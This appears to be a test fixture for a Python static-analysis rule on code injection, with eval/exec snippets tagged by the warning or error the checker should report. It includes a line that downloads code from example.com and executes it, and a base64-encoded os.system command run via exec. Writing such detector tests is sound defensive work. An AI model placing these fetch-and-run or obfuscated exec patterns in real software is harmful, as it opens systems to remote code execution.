#: a fixed string is info and is checked like any other code
print(eval("2 + 3"))
exec("total = sum(range(4))")
#: input is an error
print(eval(input()))  # expect: PY-CODE-INJECTION error
exec(input("code? "))  # expect: PY-CODE-INJECTION error
#: a parameter is a warning
def calculate(text):
    return eval(text)  # expect: PY-CODE-INJECTION warning
#: data from the network is an error
import requests
exec(requests.get("https://example.com/x.py", timeout=3).text)  # expect: PY-CODE-INJECTION error
#: a file is a warning
with open("settings.py") as file:
    exec(file.read())  # expect: PY-CODE-INJECTION warning
#: a decoded string is checked by its contents
import base64
exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=="))  # expect: PY-CODE-DECODED error, PY-COMMAND error
#: hidden evaluation
import builtins
builtins.eval("1 + 1")  # expect: PY-CODE warning
max(["1", "2"], key=eval)  # expect: PY-CODE warning
#: parsing alone runs nothing
import ast
compile("1 + 1", "<s>", "eval", ast.PyCF_ONLY_AST)
ast.parse("1 + 1")
ast.literal_eval("[1]")
#: files and modules
import runpy
runpy.run_path("/opt/job.py")  # expect: PY-CODE warning
#: timing a function runs no new code
import timeit
timeit.timeit(lambda: 1)
#: methods of the program's own classes
class Query:
    def exec(self, text):
        return text
    def eval(self, text):
        return text
Query().exec("a")
Query().eval("b")
#: a library that runs the code it is given, and that is a program too
import sys
__all__ = ["Profile"]
class Profile:
    def run(self, code, names):
        exec(code, names)  # expect: PY-CODE-INJECTION warning
def main():
    Profile().run(sys.argv[1], {})
if __name__ == "__main__":
    main()
#: a program that runs what it is given, although it lists its names
import sys
__all__ = ["main"]
def main():
    exec(sys.argv[1])  # expect: PY-CODE-INJECTION error
if __name__ == "__main__":
    main()
#: a program without public names
import sys
def run(code):
    exec(code)  # expect: PY-CODE-INJECTION error
if __name__ == "__main__":
    run(sys.argv[1])
